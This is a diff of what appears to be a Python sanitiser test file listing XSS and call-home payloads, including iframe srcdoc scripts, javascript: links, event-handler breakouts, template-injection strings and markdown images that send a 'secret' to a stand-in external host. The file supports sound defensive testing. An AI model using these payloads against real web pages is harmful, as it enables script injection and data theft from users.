@@ -1,4 +1,4 @@
-"""Text that tries to run a script or to make the page call home, from titles, abstracts, models, users and addresses."""
+"""Text that tries to run a script or to make the page call home: from titles, abstracts, models, users, addresses."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ PAYLOADS = (
     f"<svg><image href={AWAY}/i.png></svg>",
     f"<svg><use href={AWAY}/i.svg#x></svg>",
     f"<iframe src=javascript:{_RUN}></iframe>",
-    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
     f"<iframe src={AWAY}/></iframe>",
     f"<object data={AWAY}/o></object>",
     f"<embed src={AWAY}/e>",
@@ -50,13 +50,13 @@ PAYLOADS = (
     f'" onmouseover="{_RUN}" x="',
     f"' onfocus='{_RUN}' autofocus='",
     f"`${{{_RUN}}}`",
-    f"${{window.pwned=1}}",
+    "${window.pwned=1}",
     f"{{{{constructor.constructor('{_RUN}')()}}}}",
     f"{{% raw %}}<script>{_RUN}</script>{{% endraw %}}",
     f"![leak]({AWAY}/md.png?q=secret)",
     f"![leak][r]\n\n[r]: {AWAY}/ref.png",
     f"[click](javascript:{_RUN})",
-    f"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     f"[click]({AWAY}/phish)",
     f"<{AWAY}/autolink>",
     f"$\\href{{javascript:{_RUN}}}{{x}}$",
